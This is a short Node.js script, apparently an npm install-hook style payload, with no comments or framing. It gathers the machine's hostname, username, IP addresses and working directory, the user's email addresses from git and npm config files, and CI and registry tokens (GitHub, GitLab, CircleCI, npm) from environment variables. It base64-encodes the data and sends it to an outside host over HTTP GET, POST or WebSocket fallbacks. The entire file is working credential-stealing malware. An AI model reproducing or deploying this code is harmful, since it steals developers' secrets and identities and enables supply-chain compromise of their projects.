const http = require('http');
const os = require('os');
const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

function run(cmd) {
  try { return execSync(cmd, { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (e) { return ''; }
}

function emails() {
  const list = [process.env.npm_package_author_email, process.env.EMAIL, process.env.GIT_AUTHOR_EMAIL, run('git config --get user.email')];
  for (const file of ['.gitconfig', '.npmrc']) {
    try {
      const text = fs.readFileSync(path.join(os.homedir(), file), 'utf8');
      list.push((text.match(/email\s*=\s*(\S+)/) || [])[1]);
    } catch (e) {}
  }
  return list.filter(Boolean);
}

const data = {
  host: os.hostname(),
  user: os.userInfo().username,
  ip: Object.values(os.networkInterfaces()).flat().map(i => i.address),
  cwd: process.cwd(),
  node: process.version,
  emails: emails(),
  ci: {
    github: process.env.GITHUB_TOKEN, actor: process.env.GITHUB_ACTOR,
    gitlab: process.env.CI_JOB_TOKEN, jenkins: process.env.JENKINS_URL, circle: process.env.CIRCLE_TOKEN,
    npm: process.env.NPM_TOKEN,
  },
};

const q = new URLSearchParams({ d: Buffer.from(JSON.stringify(data)).toString('base64') });
http.get('http://packages.storeartifact.example.invalid/jpd.php?' + q, () => {}).on('error', () => {
  const req = http.request({ hostname: 'packages.storeartifact.example.invalid', path: '/jpd1.php', method: 'POST' });
  req.on('error', () => {
    try {
      const ws = new WebSocket('ws://packages.storeartifact.example.invalid:8080');
      ws.onopen = () => ws.send(JSON.stringify(data));
    } catch (e) {}
  });
  req.end(JSON.stringify(data));
});
